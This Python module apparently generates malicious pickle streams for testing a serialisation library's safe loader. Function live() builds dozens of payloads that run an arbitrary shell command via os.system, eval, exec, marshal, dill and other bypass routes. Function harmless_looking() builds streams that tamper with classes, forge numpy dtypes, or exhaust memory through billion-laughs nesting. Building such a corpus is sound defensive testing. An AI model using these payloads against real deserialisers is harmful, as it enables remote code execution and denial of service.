"""Streams that do harm when they are unpickled, put together opcode by opcode."""

from __future__ import annotations

import json
import pickle
import struct
import zlib
from typing import Any

from graphcopy.files.layout import laid_out

MARK, TUPLE, REDUCE, BUILD, NEWOBJ, MEMOIZE, POP = (
    pickle.MARK, pickle.TUPLE, pickle.REDUCE, pickle.BUILD, pickle.NEWOBJ, pickle.MEMOIZE, pickle.POP,
)  # fmt: skip
MINE = "trusted_samples"


def packed(stream: bytes, buffers: Any = ()) -> bytes:
    """A file around a stream, with a right checksum."""
    checksum = 0
    for piece in (stream, *buffers):
        checksum = zlib.crc32(piece, checksum)
    header = {"format": 1, "checksum": f"{checksum:08x}", "places": {}, "receipt": {"entries": []}}
    return b"".join(laid_out([json.dumps(header).encode(), stream, *buffers], None))


def text(value: str) -> bytes:
    data = value.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def data(value: bytes) -> bytes:
    return pickle.BINBYTES + struct.pack("<I", len(value)) + value


def number(value: int) -> bytes:
    return pickle.BININT + struct.pack("<i", value)


def named(module: str, name: str) -> bytes:
    return text(module) + text(name) + pickle.STACK_GLOBAL


def made(*pieces: bytes) -> bytes:
    return MARK + b"".join(pieces) + TUPLE


def call(func: bytes, *args: bytes) -> bytes:
    return func + made(*args) + REDUCE


def listed(*pieces: bytes) -> bytes:
    return pickle.EMPTY_LIST + MARK + b"".join(pieces) + pickle.APPENDS


def mapped(*pieces: bytes) -> bytes:
    return pickle.EMPTY_DICT + MARK + b"".join(pieces) + pickle.SETITEMS


def stream(*pieces: bytes) -> bytes:
    return pickle.PROTO + b"\x05" + b"".join(pieces) + pickle.STOP


def get(place: int) -> bytes:
    return pickle.BINGET + bytes([place])


POINT = named(MINE, "Point")
NEW_POINT = POINT + pickle.EMPTY_TUPLE + NEWOBJ


def live(command: str) -> dict[str, bytes]:
    """Streams that run *command* in a shell when plain pickle reads them."""
    order = text(command)
    python = text(f"__import__('os').system({command!r})")
    system = call(named("os", "system"), order)
    return {
        "os.system": stream(system),
        "posix.system": stream(call(named("posix", "system"), order)),
        "subprocess.Popen": stream(call(named("subprocess", "getoutput"), order)),
        "eval": stream(call(named("builtins", "eval"), python)),
        "exec": stream(call(named("builtins", "exec"), python)),
        "getattr": stream(call(call(named("builtins", "getattr"), call(named("builtins", "__import__"), text("os")),
                                    text("system")), order)),
        "attrgetter": stream(call(call(call(named("operator", "attrgetter"), text("system")),
                                       call(named("importlib", "import_module"), text("os"))), order)),
        "methodcaller": stream(call(call(named("operator", "methodcaller"), text("system"), order),
                                    call(named("importlib", "import_module"), text("os")))),
        "nested": stream(listed(NEW_POINT + mapped(text("x"), listed(system)) + BUILD)),
        "dropped": stream(system, POP, pickle.NONE),
        "as a key": stream(mapped(system, number(1))),
        "partial": stream(call(call(named("functools", "partial"), named("os", "system"), order))),
        "memo": stream(text("os"), MEMOIZE, POP, text("system"), MEMOIZE, POP, get(0), get(1), pickle.STACK_GLOBAL,
                       made(order), REDUCE),
        "memo overwritten": stream(text("collections"), pickle.BINPUT + b"\x00", POP, text("os"),
                                   pickle.BINPUT + b"\x00", POP, get(0), text("system"), pickle.STACK_GLOBAL,
                                   made(order), REDUCE),
        "text opcode GLOBAL": stream(b"cos\nsystem\n", made(order), REDUCE),
        "INST": stream(MARK, order, b"ios\nsystem\n"),
        "OBJ": stream(MARK, named("os", "system"), order, b"o"),
        "old protocol": pickle.PROTO + b"\x02" + call(b"c__builtin__\neval\n", python) + pickle.STOP,
        "protocol again": stream(pickle.PROTO + b"\x02", call(b"c__builtin__\neval\n", python)),
        "no protocol": call(named("os", "system"), order) + pickle.STOP,
        "in a frame": stream(pickle.FRAME + struct.pack("<Q", len(system) + 1), system),
        "a lying frame": stream(pickle.FRAME + struct.pack("<Q", 3), system),
        "chain of attributes": stream(call(named(MINE, "os.system"), order)),
        "chain through a class": stream(call(named(MINE, "Point.__init__.__globals__.get"), text("command"))
                                        + MEMOIZE + POP + get(0) + made(order) + REDUCE),
        "what a package imports": stream(call(named(MINE, "Popen"), listed(text("sh"), text("-c"), order))
                                         + POP + pickle.NONE),
        "an alias": stream(call(named(MINE, "command"), order)),
        "setstate of an instance": stream(NEW_POINT + mapped(text("__setstate__"), named("os", "system")) + BUILD
                                          + order + BUILD),
        "extend of an instance": stream(NEW_POINT + mapped(text("append"), named("os", "system")) + BUILD
                                        + MARK + order + pickle.APPENDS),
        "codecs": stream(call(named("builtins", "exec"), call(named("codecs", "decode"), data(
            f"import os; os.system({command!r})".encode("utf-16")), text("utf-16")))),
        "map": stream(call(named("builtins", "list"), call(named("builtins", "map"), named("os", "system"),
                                                           listed(order)))),
        "next of map": stream(pickle.EMPTY_LIST + MARK + call(named("builtins", "next"), call(
            named("builtins", "map"), named("os", "system"), listed(order))) + pickle.APPENDS),
        "runpy": stream(call(named("runpy", "_run_code"), call(named("builtins", "compile"), python, text("f"),
                                                              text("exec")), mapped())),
        "timeit": stream(call(named("timeit", "timeit"), python, text("pass"), named("time", "time"), number(1))),
        "pickle within": stream(call(named("pickle", "loads"), data(stream(system)))),
        "graphcopy.loads": stream(call(named("graphcopy", "loads"), data(stream(system)))),
        "arrive": stream(call(named("graphcopy.shipping.reduced", "arrive"), pickle.NONE, listed(made(
            named("builtins", "getattr"), text("a"), text("upper"))))
            + POP + system),
        "complete": stream(call(named("graphcopy.shipping.reduced", "complete"), text("x"), made(
            pickle.NONE, pickle.NONE, pickle.NONE, pickle.EMPTY_TUPLE, pickle.EMPTY_TUPLE)) + POP + system),
        "a setter called by complete": stream(call(named("graphcopy.shipping.reduced", "complete"), order, made(
            named("trusted_samples", "Property.run.fset"), pickle.NONE, order, pickle.EMPTY_TUPLE,
            pickle.EMPTY_TUPLE))),
        "dill's import": stream(call(call(named("operator", "methodcaller"), text("system"), order),
                                     call(named("dill._dill", "_import_module"), text("os")))),
        "dill's types": stream(call(named("dill._dill", "_load_type"), text("CodeType")) + POP + system),
        "dill's functions": stream(call(call(named("dill._dill", "_create_function"), call(
            named("builtins", "compile"), python, text("f"), text("eval")), mapped(), text("f")))),
        "code by marshal": stream(call(call(named("types", "FunctionType"), call(named("marshal", "loads"), data(
            __import__("marshal").dumps(compile(f"__import__('os').system({command!r})", "f", "eval")))), mapped()))),
        "code by graphcopy": _code_by_graphcopy(command),
    }  # fmt: skip


def _code_by_graphcopy(command: str) -> bytes:
    import graphcopy

    class Runs:
        def __reduce__(self) -> Any:
            import os

            return (lambda text: os.system(text), (command,))

    return graphcopy.dumps(Runs())


def harmless_looking() -> dict[str, bytes]:
    """Streams that do harm in other ways: they tamper with what is trusted, or take all time and memory."""
    long = 1 << 40
    return {
        "state of a class": stream(POINT, pickle.NONE, mapped(text("kind"), text("evil")), pickle.TUPLE2, BUILD),
        "state of a class through same": stream(call(named("graphcopy.shipping.reduced", "same"), POINT)
                                                + pickle.NONE + mapped(text("kind"), text("evil"))
                                                + pickle.TUPLE2 + BUILD),
        "state of a class through put_state": stream(call(named("graphcopy.anatomy.instances", "put_state"), POINT,
                                                          mapped(text("kind"), text("evil")))),
        "state of a class through default_state": stream(call(
            named("graphcopy.anatomy.putting", "default_state"), POINT,
            made(pickle.NONE, mapped(text("kind"), text("evil"))))),
        "a property as a slot": stream(call(named("graphcopy.anatomy.instances", "put_state"), named(
            MINE, "Property") + pickle.EMPTY_TUPLE + NEWOBJ, mapped(made(named(MINE, "Property"), text("run")),
                                                                   text("echo")))),
        "a function of a trusted package": stream(call(named(MINE, "helper"), number(1))),
        "a setter of somebody else": stream(call(named("graphcopy.shipping.reduced", "complete"), NEW_POINT, made(
            POINT, pickle.NONE, number(1), pickle.EMPTY_TUPLE, pickle.EMPTY_TUPLE))),
        "a class completed": stream(call(named("graphcopy.shipping.reduced", "complete"), POINT, made(
            pickle.NONE, pickle.NONE, made(pickle.NONE, mapped(text("kind"), text("evil"))), pickle.EMPTY_TUPLE,
            pickle.EMPTY_TUPLE))),
        "a billion laughs completed": stream(_laughs() + POP + call(
            named("graphcopy.shipping.reduced", "complete"), pickle.EMPTY_DICT, made(
                pickle.NONE, pickle.NONE, number(1), pickle.EMPTY_TUPLE, listed(made(get(60), number(1)))))),
        "a metaclass": stream(call(named(MINE, "Meta"), text("X"), pickle.EMPTY_TUPLE, mapped())),
        "type": stream(call(named("builtins", "type"), text("X"), pickle.EMPTY_TUPLE, mapped())),
        "reconstructor": stream(call(named("copyreg", "_reconstructor"), POINT, named("builtins", "object"),
                                     pickle.NONE)),
        "newobj by name": stream(call(named("copyreg", "__newobj__"), POINT)),
        "a class in a class": stream(named(MINE, "Outer.Inner") + pickle.EMPTY_TUPLE + NEWOBJ),
        "the dict of a class": stream(named(MINE, "Point.__dict__")),
        "main of a package": stream(named(MINE + ".__main__", "Point")),
        "scalar of objects": stream(call(named("numpy._core.multiarray", "scalar"), call(
            named("numpy", "dtype"), text("O8"), pickle.NEWFALSE, pickle.NEWTRUE), data(b"A" * 8))),
        "array of objects": stream(call(named("numpy._core.multiarray", "_reconstruct"), named("numpy", "ndarray"),
                                        made(number(0)), data(b"b")) + made(
            number(1), made(number(1)), call(named("numpy", "dtype"), text("O8"), pickle.NEWFALSE, pickle.NEWTRUE),
            pickle.NEWFALSE, listed(number(5))) + BUILD),
        "dtype with a field of objects": stream(call(named("numpy", "dtype"), text("V8"), pickle.NEWFALSE,
                                                     pickle.NEWTRUE) + made(
            number(3), text("|"), pickle.NONE, made(text("a")), mapped(text("a"), made(call(
                named("numpy", "dtype"), text("O8"), pickle.NEWFALSE, pickle.NEWTRUE), number(0))),
            number(8), number(1), number(0)) + BUILD),
        "dtype with forged flags": stream(call(named("numpy", "dtype"), text("S8"), pickle.NEWFALSE, pickle.NEWTRUE)
                                          + made(number(3), text("|"), pickle.NONE, pickle.NONE, pickle.NONE, number(8),
                                                 number(1), number(63)) + BUILD),
        "dtype of times without a unit": stream(
            call(named("numpy", "dtype"), text("M8"), pickle.NEWFALSE, pickle.NEWTRUE)
            + made(number(4), text("<"), pickle.NONE, pickle.NONE, pickle.NONE, number(-1), number(-1), number(0))
            + BUILD),
        "dtype of times with a unit of zero": stream(
            call(named("numpy", "dtype"), text("M8"), pickle.NEWFALSE, pickle.NEWTRUE)
            + made(number(4), text("<"), pickle.NONE, pickle.NONE, pickle.NONE, number(-1), number(-1), number(0),
                   made(pickle.NONE, made(data(b"D"), number(0), number(1), number(1)))) + BUILD),
        "dtype with a forged size": stream(call(named("numpy", "dtype"), text("S8"), pickle.NEWFALSE, pickle.NEWTRUE)
                                           + made(number(3), text("|"), pickle.NONE, pickle.NONE, pickle.NONE,
                                                  number(-1), number(1), number(0)) + BUILD),
        "array by its class": stream(call(named("numpy", "ndarray"), made(number(1 << 30), number(1 << 30)))),
        "EXT1": stream(pickle.EXT1 + b"\x01"),
        "EXT4": stream(pickle.EXT4 + struct.pack("<i", 5)),
        "PERSID": stream(b"Pid\n"),
        "BINPERSID": stream(text("id") + pickle.BINPERSID),
        "a name that is worked out": stream(call(named(MINE, "Word"), text("os")) + text("system")
                                            + pickle.STACK_GLOBAL),
        "a call of an instance": stream(NEW_POINT + made() + REDUCE),
        "a call of a list": stream(pickle.EMPTY_LIST + made() + REDUCE),
        "arguments that are no tuple": stream(POINT + pickle.EMPTY_LIST + REDUCE),
        "new of a function": stream(named(MINE, "helper") + pickle.EMPTY_TUPLE + NEWOBJ),
        "a hidden second pickle": stream(pickle.NONE) + stream(call(named("os", "system"), text("true"))),
        "no end": stream(pickle.NONE)[:-1],
        "nothing on the stack": stream(),
        "too much on the stack": stream(pickle.NONE, pickle.NONE),
        "a mark that stays": stream(MARK, pickle.NONE),
        "a memo that is not there": stream(get(7)),
        "a huge memo place": stream(pickle.NONE, pickle.LONG_BINPUT + struct.pack("<I", (1 << 32) - 1)),
        "huge bytes": stream(pickle.BINBYTES8 + struct.pack("<Q", long) + b"x"),
        "huge text": stream(pickle.BINUNICODE8 + struct.pack("<Q", long) + b"x"),
        "huge bytearray": stream(pickle.BYTEARRAY8 + struct.pack("<Q", long) + b"x"),
        "huge number": stream(pickle.LONG4 + struct.pack("<i", (1 << 31) - 1) + b"x"),
        "negative length": stream(pickle.LONG4 + struct.pack("<i", -5) + b"x"),
        "a huge frame": stream(pickle.FRAME + struct.pack("<Q", long), pickle.NONE),
        "bytes of a number": stream(call(named("builtins", "bytes"), number((1 << 31) - 1))),
        "a bytes subclass of a number": stream(call(call(named("graphcopy.anatomy.builtins", "MakeValue"), named(
            MINE, "Word"), named("builtins", "bytes"), number((1 << 31) - 1)))),
        "a billion laughs as a key": stream(_laughs() + POP + pickle.EMPTY_DICT + get(60) + number(1) + pickle.SETITEM),
        "a billion laughs in a set": stream(_laughs() + POP + pickle.EMPTY_SET + MARK + get(60) + pickle.ADDITEMS),
        "a billion laughs in frozen instances": stream(_laughs_fixed()),
        "a buffer that is not there": stream(pickle.NEXT_BUFFER),
        "a read-only list": stream(pickle.EMPTY_LIST + pickle.READONLY_BUFFER),
        "a callback at death": stream(call(named("graphcopy.anatomy.weak", "make_ref"), POINT, NEW_POINT)),
        "an item of a text": stream(text("x") + number(1) + pickle.APPEND),
        "items of a class": stream(POINT + MARK + number(1) + pickle.APPENDS),
        "any text": b"\x80\x05" + b"garbage " * 10,
        "a hundred thousand marks": stream(MARK * 100_000),
        "a decorated class": stream(call(named("graphcopy.shipping.classes", "make_class"), named("builtins", "type"),
                                         text("X"), made(POINT), mapped(), text("n"), text(""))),
        "an import": stream(call(named("graphcopy.shipping.program", "import_module"), text("this"))),
        "globals of a module": stream(call(named("graphcopy.shipping.namespaces", "globals_of"), text("os"))),
        "a descriptor": stream(call(named("graphcopy.shipping.program", "descriptor_of"), POINT, text("kind"))),
        "a bound method": stream(call(named("graphcopy.anatomy.functions", "bind_method"), POINT, POINT)),
        "cloudpickle": stream(call(named("cloudpickle.cloudpickle", "_make_function"), pickle.NONE)),
    }  # fmt: skip


def _laughs(size: int = 60) -> bytes:
    found = number(1) + pickle.TUPLE1 + MEMOIZE
    for place in range(size):
        found += POP + get(place) + get(place) + pickle.TUPLE2 + MEMOIZE
    return found


def _laughs_fixed() -> bytes:
    fixed = named(MINE, "Fixed") + MEMOIZE + POP + pickle.EMPTY_TUPLE + MEMOIZE
    place = 1
    for _ in range(60):
        one = get(0) + pickle.EMPTY_TUPLE + NEWOBJ + MEMOIZE
        state = mapped(text("x"), number(1), text("y"), get(place) + get(place) + pickle.TUPLE2)
        fixed += POP + one + state + BUILD
        place += 1
    return fixed + POP + mapped(get(place), number(1))
